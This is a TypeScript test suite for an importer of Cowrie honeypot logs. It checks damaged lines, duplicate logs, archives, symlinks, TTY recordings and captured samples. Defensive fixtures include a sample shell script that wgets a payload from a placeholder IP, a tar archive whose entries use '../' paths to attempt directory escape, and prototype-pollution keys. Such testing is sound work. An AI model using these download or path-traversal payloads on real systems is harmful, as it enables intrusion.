// Import as an operator meets it: damage of every kind, copies, sensors, recordings, odd files, an end in the middle.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { encodeTtyRecord } from '../event/tty.ts';
import { type ImportOptions, type ImportResult, importPaths } from './import.ts';
import { openStore } from './open.ts';
import type { SqliteStore } from './sqlite.ts';

const folder = mkdtempSync(join(tmpdir(), 'kansatsuki-import-'));
after(() => rmSync(folder, { recursive: true }));
let count = 0;
const place = (): string => {
  const path = join(folder, `case-${count++}`);
  mkdirSync(path);
  return path;
};

function event(i: number, more: Record<string, unknown> = {}): string {
  return JSON.stringify({
    eventid: 'cowrie.command.input',
    input: `id ${i}`,
    message: `CMD: id ${i}`,
    sensor: 'pot',
    timestamp: new Date(1_700_000_000_000 + i * 1000).toISOString().replace('Z', '000Z'),
    src_ip: '198.51.100.7',
    session: (0xabc000000000 + Math.floor(i / 5)).toString(16),
    ...more,
  });
}

interface Told {
  result: ImportResult;
  notes: string[];
  store: SqliteStore;
}

async function read(
  path: string | string[],
  options: ImportOptions = {},
  store = openStore(':memory:'),
): Promise<Told> {
  const notes: string[] = [];
  const paths = typeof path === 'string' ? [path] : path;
  const explain: ImportOptions['explain'] = ({ file, line, what }) =>
    notes.push(`${file.replace(`${folder}/`, '')}${line === undefined ? '' : `:${line}`}: ${what}`);
  const result = await importPaths(store, paths, { explain, ...options });
  return { result, notes, store };
}

/** What a store holds, whatever the order in which it came. */
function contentOf(store: SqliteStore): string {
  const sessions = [];
  for (let cursor: string | undefined, more = true; more; more = cursor !== undefined) {
    const page = store.sessions({}, 500, cursor);
    cursor = page.next;
    for (const row of page.items) {
      const { events, sensor, session } = store.session(row.id)!;
      sessions.push({ sensor, session, events: events.map((each) => JSON.stringify(each)).sort() });
    }
  }
  sessions.sort((a, b) => (a.session + a.sensor < b.session + b.sensor ? -1 : 1));
  return JSON.stringify(sessions);
}

const whole = Array.from({ length: 40 }, (_, i) => event(i));
/** [what, the log, events, salvaged, malformed] */
const damaged: [string, string | Buffer, number, number, number][] = [
  ['sound lines', `${whole.join('\n')}\n`, 40, 0, 0],
  ['no last LF', whole.join('\n'), 40, 0, 0],
  ['CR LF, byte order mark, blank lines', `\ufeff${whole.join('\r\n\r\n  \r\n')}\r\n`, 40, 0, 0],
  ['a line cut off', `${event(1)}\n${event(2).slice(0, 50)}\n${event(3)}\n`, 2, 0, 1],
  ['a line that lost its brace', `${event(1)}\n${event(2).slice(0, -1)}\n`, 2, 1, 0],
  ['two lines glued together', `${event(1)}${event(2)}\n${event(3)}\n`, 3, 2, 0],
  ['half a line, then a whole one', `${event(1).slice(0, 60)}${event(2)}\n`, 1, 1, 0],
  ['NULs before a line', Buffer.concat([Buffer.alloc(200_000), Buffer.from(`${event(1)}\n`)]), 1, 1, 0],
  ['NULs alone, in between', `${event(1)}\n${'\0'.repeat(5000)}\n${event(2)}\n`, 2, 0, 1],
  ['an array', `[${event(1)},\n${event(2)}]`, 2, 0, 0],
  ['an array, an element a line', `[\n${event(1)},\n${event(2)}\n]\n`, 2, 0, 0],
  ['pretty-printed', JSON.stringify(JSON.parse(`[${event(1)},${event(2)}]`), null, 2), 2, 0, 0],
  ['lines that are something else', `${event(1)}\nhello\n{}\n17\nnull\n"x"\n${event(2)}\n`, 2, 0, 5],
  [
    'bytes that are no UTF-8',
    Buffer.concat([Buffer.from(event(1).slice(0, -2)), Buffer.from([0xff, 0xc3, 0x22, 0x7d, 10])]),
    1,
    0,
    0,
  ],
  [
    'UTF-16 as Windows writes it',
    Buffer.from(`\ufeff${event(1)}\r\n${event(2, { input: '○' })}\r\n`, 'utf16le'),
    2,
    0,
    0,
  ],
  ['masked addresses', `${event(1, { src_ip: '○○○.○○○.○○○.○○○' })}\n`, 1, 0, 0],
  ['the same lines twice', `${event(1)}\n${event(1)}\n${event(2)}\n${event(1)}\n`, 2, 0, 0],
  [
    'keys of JavaScript',
    `${event(1, { constructor: 1, toString: 'x' }).replace('{', '{"__proto__":{"a":1},')}\n`,
    1,
    0,
    0,
  ],
  [
    'an id of JavaScript',
    `${event(1, { eventid: '__proto__', session: 'constructor', sensor: 'toString' })}\n`,
    1,
    0,
    0,
  ],
  ['huge numbers', `${event(1, { src_port: 1e308, width: -1 }).replace('1e+308', '1e999')}\n`, 1, 0, 0],
  ['no time', `${event(1, { timestamp: 'yesterday' })}\n${event(2, { timestamp: undefined })}\n${event(3)}\n`, 1, 0, 2],
  [
    'nested deeply',
    `${event(1, { x: 0 }).replace('"x":0', `"x":${'['.repeat(1e5)}${']'.repeat(1e5)}`)}\n${event(2)}\n`,
    2,
    0,
    0,
  ],
  ['brackets without end', `${event(1)}\n${'['.repeat(1e5)}\n${'{"a":'.repeat(1e4)}\n${event(2)}\n`, 2, 0, 2],
];
for (const [what, log, events, salvaged, malformed] of damaged)
  test(`damage: ${what}`, async () => {
    const path = join(place(), 'cowrie.json');
    writeFileSync(path, log);
    const { result, notes, store } = await read(path);
    assert.deepEqual(
      { events: result.events, salvaged: result.salvaged, malformed: result.malformed },
      { events, salvaged, malformed },
      notes.join('\n'),
    );
    assert.equal(store.totals().events, events);
    // Each doubt has a line to it, and a kind.
    const doubts = Object.values(result.kinds.malformed).reduce((sum, n) => sum + n, 0);
    assert.equal(doubts, malformed);
    assert.ok(notes.length >= malformed);
    const again = await read(path, {}, store);
    assert.equal(again.result.events, 0);
  });

test('a line is explained by the number that an editor shows', async () => {
  const path = join(place(), 'cowrie.json');
  writeFileSync(path, `\n${event(1)}\n\n\r\n${event(2).slice(0, 40)}\n${event(3)}\nnonsense\n`);
  const { notes } = await read(path);
  assert.deepEqual(
    notes.map((note) => note.replace(/^.*json/, '')),
    [':5: cut off before its time', ':7: no JSON'],
  );
});

test('a line of 300 MB: its ends are kept, memory stays bounded', async () => {
  const path = join(place(), 'cowrie.json');
  const [before, behind] = event(2, { input: '@' }).split('@') as [string, string];
  writeFileSync(path, `${event(1)}\n${before}`);
  const piece = Buffer.from('\\n\\u00e9\\"x'.repeat(100_000));
  for (let written = 0; written < 300e6; written += piece.length) appendFileSync(path, piece);
  appendFileSync(path, `${behind}\n${event(3)}\n`);
  let most = 0;
  const watch = setInterval(() => (most = Math.max(most, process.memoryUsage().arrayBuffers)), 5);
  const { result, store } = await read(path);
  clearInterval(watch);
  rmSync(path);
  assert.equal(result.events, 3);
  assert.equal(result.salvaged, 1);
  assert.ok(most < 100e6, `${most} bytes in buffers`);
  const [row] = store.sessions({}, 1).items;
  const long = store.session(row!.id)!.events[1]!.fields['input'] as string;
  assert.match(long, /… \[cut: \d+ characters\]$/);
  assert.ok(long.length < 263_000);
});

test('ten thousand fields: the event is kept, and says what is not', async () => {
  const path = join(place(), 'cowrie.json');
  const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`field${i}`, i]));
  writeFileSync(path, `${event(1, many)}\n`);
  const { result, store } = await read(path);
  assert.equal(result.events, 1);
  const { fields } = store.session(store.sessions({}, 1).items[0]!.id)!.events[0]!;
  assert.ok(Number(fields['fields_left_out']) > 9000);
  assert.equal(store.totals().commands, 1);
});

test('copies, parts, other orders and other boxes of a log add nothing', async () => {
  const at = place();
  const lines = Array.from({ length: 300 }, (_, i) => event(i));
  writeFileSync(join(at, 'cowrie.json'), `${lines.join('\n')}\n`);
  const { store } = await read(at);
  const before = contentOf(store);
  const copies = place();
  mkdirSync(join(copies, 'elsewhere'));
  writeFileSync(join(copies, 'elsewhere/part.json'), lines.slice(100, 250).join('\n'));
  writeFileSync(join(copies, 'reversed.json'), [...lines].reverse().join('\n'));
  writeFileSync(join(copies, 'packed'), gzipSync(lines.join('\r\n')));
  writeFileSync(
    join(copies, 'spaced.json'),
    lines.map((line) => JSON.stringify(JSON.parse(line), null, 1).replaceAll('\n', ' ')).join('\n'),
  );
  assert.equal(spawnSync('tar', ['-czf', join(copies, 'all.tgz'), '-C', at, 'cowrie.json']).status, 0);
  const { result } = await read(copies, {}, store);
  assert.equal(result.events, 0);
  assert.equal(result.duplicates, 150 + 4 * 300);
  assert.equal(contentOf(store), before);

  const backwards = await read([join(copies, 'reversed.json'), at]);
  assert.equal(contentOf(backwards.store), before);
});

test('a file that was read is known again by its content, wherever it lies, and counted as before', async () => {
  const at = place();
  const lines = Array.from({ length: 2000 }, (_, i) => event(i));
  writeFileSync(join(at, 'cowrie.json'), `${lines.join('\n')}\nnonsense\n`);
  const store = openStore(':memory:');
  const first = await importPaths(store, [at]);
  assert.deepEqual([first.events, first.malformed], [2000, 1]);
  const elsewhere = place();
  writeFileSync(join(elsewhere, 'copy.txt'), readFileSync(join(at, 'cowrie.json')));
  const second = await importPaths(store, [elsewhere]);
  assert.deepEqual(
    [second.files, second.lines, second.events, second.duplicates, second.malformed],
    [1, 2001, 0, 2000, 1],
  );
  assert.deepEqual(second.kinds.note, { 'a log that was read before, unchanged': 1 });
  assert.deepEqual(second.kinds.malformed, first.kinds.malformed);
  // One byte in its middle, the size the same.
  const changed = readFileSync(join(at, 'cowrie.json'));
  changed.write('9', changed.indexOf('id 1500') + 3);
  writeFileSync(join(elsewhere, 'copy.txt'), changed);
  const third = await importPaths(store, [elsewhere]);
  assert.deepEqual([third.events, third.duplicates], [1, 1999]);
  // An operator's name for the sensor makes it another log.
  const named = openStore(':memory:');
  writeFileSync(join(at, 'cowrie.json'), lines.map((line) => line.replace('"sensor":"pot",', '')).join('\n'));
  assert.equal((await importPaths(named, [at], { sensor: 'a' })).sessions, 400);
  assert.equal((await importPaths(named, [at], { sensor: 'b' })).sessions, 400);
  assert.equal((await importPaths(named, [at], { sensor: 'b' })).sessions, 0);
});

test('one session id at two sensors is two sessions', async () => {
  const at = place();
  writeFileSync(join(at, 'a.json'), `${event(1, { sensor: 'a' })}\n${event(1, { sensor: 'b' })}\n`);
  const { result } = await read(at);
  assert.equal(result.sessions, 2);
  assert.equal(result.events, 2);
});

test('a log that names no sensor takes --sensor, else its folder; copies are no other sensor', async () => {
  const at = place();
  const sensors = (store: SqliteStore) => store.sessions({}, 100).items.map(({ sensor }) => sensor);
  for (const name of ['tokyo', 'osaka']) mkdirSync(join(at, name, 'var/log/cowrie'), { recursive: true });
  const unnamed = { sensor: undefined };
  writeFileSync(join(at, 'tokyo/var/log/cowrie/cowrie.json'), `${event(1, unnamed)}\n`);
  writeFileSync(join(at, 'osaka/var/log/cowrie/cowrie.json.2023-11-14'), `${event(10, unnamed)}\n`);
  const { store } = await read(at);
  assert.deepEqual(sensors(store).sort(), ['osaka', 'tokyo']);

  mkdirSync(join(at, 'copy'));
  writeFileSync(join(at, 'copy/cowrie.json'), `${event(1, unnamed)}\n${event(2, unnamed)}\n`);
  const copied = await read(join(at, 'copy'), {}, store);
  assert.deepEqual([copied.result.events, copied.result.duplicates, copied.result.sessions], [1, 1, 0]);

  const named = await read(join(at, 'copy'), { sensor: 'kyoto' });
  assert.deepEqual(sensors(named.store), ['kyoto']);
  const two = await read(join(at, 'copy'), { sensor: 'nara' }, named.store);
  assert.equal(two.result.sessions, 1);
  // An archive that is named for its sensor.
  assert.equal(spawnSync('tar', ['-czf', join(at, 'nagoya.tar.gz'), '-C', join(at, 'tokyo'), 'var']).status, 0);
  assert.deepEqual(sensors((await read(join(at, 'nagoya.tar.gz'))).store), ['nagoya']);
});

test('loops, pipes, sockets, devices, dangling links and second names are passed over', async () => {
  const at = place();
  writeFileSync(join(at, 'cowrie.json'), `${event(1)}\n`);
  mkdirSync(join(at, 'deep/er'), { recursive: true });
  symlinkSync(at, join(at, 'deep/er/loop'));
  symlinkSync('../cowrie.json', join(at, 'deep/link.json'));
  symlinkSync('/nowhere', join(at, 'deep/dangling'));
  symlinkSync('/dev/zero', join(at, 'deep/zero'));
  symlinkSync('self', join(at, 'deep/self'));
  writeFileSync(join(at, 'empty.json'), '');
  spawnSync('mkfifo', [join(at, 'pipe.json')]);
  const server = createServer().listen(join(at, 'socket'));
  await new Promise((resolve) => server.once('listening', resolve));
  const { result, notes } = await read([at, at, join(at, 'cowrie.json')]);
  server.close();
  assert.equal(result.files, 1);
  assert.equal(result.lines, 1);
  assert.equal(result.events, 1);
  assert.equal(notes.filter((note) => note.endsWith('neither file nor folder')).length, 3);
});

test('of a log that is being written the rest comes next time', async () => {
  const path = join(place(), 'cowrie.json');
  writeFileSync(path, `${event(1)}\n${event(2).slice(0, 30)}`);
  const { store } = await read(path);
  appendFileSync(path, `${event(2).slice(30)}\n${event(3)}\n`);
  const { result } = await read(path, {}, store);
  assert.deepEqual([result.events, result.duplicates, result.malformed], [2, 1, 0]);
});

test('only the bytes that a log had when it was opened are read', async () => {
  const path = join(place(), 'cowrie.json');
  writeFileSync(path, Array.from({ length: 20_000 }, (_, i) => `${event(i)}\n`).join(''));
  let grown = 0;
  const progress = () => {
    if (grown++ < 3) appendFileSync(path, `${event(90_000 + grown)}\n`);
  };
  const { result, store } = await read(path, { progress });
  assert.ok(grown > 0);
  assert.equal(result.lines, 20_000);
  // The last call comes when all is read.
  assert.ok((await read(path, {}, store)).result.events > 0);
});

test('recordings and samples beside the logs are kept under the names that events have for them', async () => {
  const at = place();
  const data = place();
  const keep = { tty: join(data, 'tty'), downloads: join(data, 'downloads') };
  const recording = Buffer.concat([
    encodeTtyRecord('open', 1_700_000_000_000),
    encodeTtyRecord('input', 1_700_000_000_100, Buffer.from('id\r')),
    encodeTtyRecord('output', 1_700_000_000_200, Buffer.from('uid=0(root)\n')),
    encodeTtyRecord('close', 1_700_000_000_300),
  ]);
  const name = createHash('sha256').update('id\r').digest('hex');
  const sample = Buffer.from('#!/bin/sh\nwget http://192.0.2.1/x\n');
  const hash = createHash('sha256').update(sample).digest('hex');
  const old = '20180502-101112-abc000000000-0i.log';
  const kippo = '20171219123632_http___192_0_2_1_x_sh';
  for (const path of ['tty', 'dl', 'packed']) mkdirSync(join(at, path));
  writeFileSync(join(at, 'tty', old), recording);
  writeFileSync(join(at, 'packed', `${name}.gz`), gzipSync(recording));
  writeFileSync(join(at, 'dl', kippo), sample);
  // What was brought is never looked into: here an archive of a log.
  writeFileSync(join(at, 'inner.json'), `${event(77)}\n`);
  const archive = spawnSync('tar', ['-cz', '-C', at, 'inner.json']).stdout;
  rmSync(join(at, 'inner.json'));
  const archiveHash = createHash('sha256').update(archive).digest('hex');
  writeFileSync(join(at, 'dl', archiveHash), archive);
  writeFileSync(join(at, 'dl', 'a'.repeat(64)), 'not what its name says');
  // A sample that has the form of a recording.
  const forged = createHash('sha256').update(recording).digest('hex');
  writeFileSync(join(at, 'dl', forged), recording);
  writeFileSync(
    join(at, 'cowrie.json'),
    `${event(1, { eventid: 'cowrie.log.closed', ttylog: `log/tty/${old}`, size: 12 })}
${event(2, { eventid: 'cowrie.log.closed', ttylog: `/opt/cowrie/var/lib/cowrie/tty/${name}`, shasum: name, size: 12 })}
${event(3, { eventid: 'cowrie.session.file_download', url: 'http://192.0.2.1/x.sh', outfile: `dl/${kippo}` })}
${event(4, { eventid: 'cowrie.session.file_download', url: 'http://192.0.2.1/x.sh', outfile: `dl/${hash}`, shasum: hash })}\n`,
  );
  const { store, notes, result } = await read(at, { keep });
  assert.equal(result.events, 4);
  assert.deepEqual(readdirSync(keep.tty).sort(), [old, name].sort());
  const wrong = createHash('sha256').update('not what its name says').digest('hex');
  assert.deepEqual(readdirSync(keep.downloads).sort(), [archiveHash, forged, hash, wrong].sort());
  assert.deepEqual(readFileSync(join(keep.tty, name)), recording);
  assert.equal(store.attachment(kippo)?.path, join(keep.downloads, hash));
  assert.equal(store.attachment(hash)?.bytes, sample.length);
  assert.equal(store.attachment(old)?.kind, 'tty');
  // Kippo's name for the file told no hash.
  const known = store.downloads(undefined, 10).map((download) => [download.hash, download.bytes]);
  assert.deepEqual(known, [
    [hash, sample.length],
    [hash, sample.length],
  ]);
  assert.ok(notes.some((note) => note.includes('its bytes are not what its name says')));
  assert.deepEqual(store.session(store.sessions({}, 1).items[0]!.id)?.recordings, [old, name]);

  // The same out of an archive with names that want to get out of it.
  const elsewhere = place();
  const moved = { tty: join(elsewhere, 'tty'), downloads: join(elsewhere, 'downloads') };
  const made = spawnSync('tar', [
    '-cf',
    join(at, 'all.tar'),
    '-P',
    '--transform=s,^,../../../tmp/,',
    '-C',
    at,
    'tty',
    'dl',
    'packed',
  ]);
  assert.equal(made.status, 0);
  await read(join(at, 'all.tar'), { keep: moved });
  assert.deepEqual(readdirSync(elsewhere).sort(), ['downloads', 'tty']);
  assert.deepEqual(readdirSync(moved.tty).sort(), [old, name].sort());
  assert.deepEqual(readdirSync(moved.downloads).sort(), [archiveHash, forged, hash, wrong].sort());
  assert.ok(existsSync(join(moved.downloads, hash)));
});

test('whatever happens to a good log, nothing is thrown and every line is accounted for', async () => {
  let seed = 11;
  const random = (below: number) => (seed = (seed * 48_271) % 0x7fffffff) % below;
  const path = join(place(), 'cowrie.json');
  const good = Buffer.from(`${Array.from({ length: 60 }, (_, i) => event(i)).join('\n')}\n`);
  for (let round = 0; round < 200; round++) {
    let log = Buffer.from(good);
    for (let harm = random(6); harm >= 0; harm--) {
      const at = random(log.length);
      const length = Math.min(random(400), log.length - at);
      const cases = [
        () => log.fill(random(256), at, at + length),
        () => (log[at] = random(256)),
        () => (log = Buffer.concat([log.subarray(0, at), log.subarray(at + length)])),
        () => (log = Buffer.concat([log.subarray(0, at), log.subarray(random(log.length)), log.subarray(at)])),
        () => log.fill(0, at, at + length),
        () => (log = Buffer.concat([log.subarray(0, at), Buffer.from('{"eventid":['), log.subarray(at)])),
        () => (log = log.subarray(0, at + 1)),
      ];
      cases[random(cases.length)]!();
    }
    writeFileSync(path, log);
    const { result, store, notes } = await read(path);
    if (result.files === 0) continue;
    const sums = Object.fromEntries(
      Object.entries(result.kinds).map(([doubt, kinds]) => [doubt, Object.values(kinds).reduce((a, b) => a + b, 0)]),
    );
    const says = `round ${round}: ${JSON.stringify(result)}\n${notes.join('\n')}`;
    assert.equal(store.totals().events, result.events, says);
    assert.equal(sums['malformed'], result.malformed, says);
    assert.equal(sums['salvaged'], result.salvaged, says);
    // Each line gave an event, or was told to have given none.
    const without = result.malformed + sums['other']!;
    assert.ok(result.events + result.duplicates + without >= result.lines - punctuation(log), says);
    const again = await read(path, {}, store);
    assert.equal(again.result.events, 0, says);
    store.close();
  }
});

/** Lines that are only brackets and commas of an array hold nothing. */
const punctuation = (log: Buffer): number =>
  log
    .toString('latin1')
    .split('\n')
    .filter((line) => /^[\s\0]*[[\],\s\0]+$/.test(line)).length;

test('ended in the middle and begun again it gives the same store', async () => {
  const at = place();
  for (let file = 0; file < 4; file++)
    writeFileSync(
      join(at, `cowrie.json.${file}`),
      Array.from({ length: 8000 }, (_, i) => event(file * 8000 + i)).join('\n'),
    );
  const expected = contentOf((await read(at)).store);
  const store = openStore(':memory:');
  for (let rounds = 0, done = false; !done; rounds++) {
    assert.ok(rounds < 20);
    const stopping = new AbortController();
    let chunks = 0;
    try {
      await importPaths(store, [at], {
        signal: stopping.signal,
        now: Date.now,
        explain: () => {},
        progress: () => {
          if (++chunks === rounds + 1 && rounds < 3) stopping.abort();
        },
      });
      done = true;
    } catch (error) {
      assert.equal((error as Error).name, 'AbortError');
      // What was read is kept.
      assert.ok(store.totals().events > 0 || rounds === 0);
    }
  }
  assert.equal(contentOf(store), expected);
});
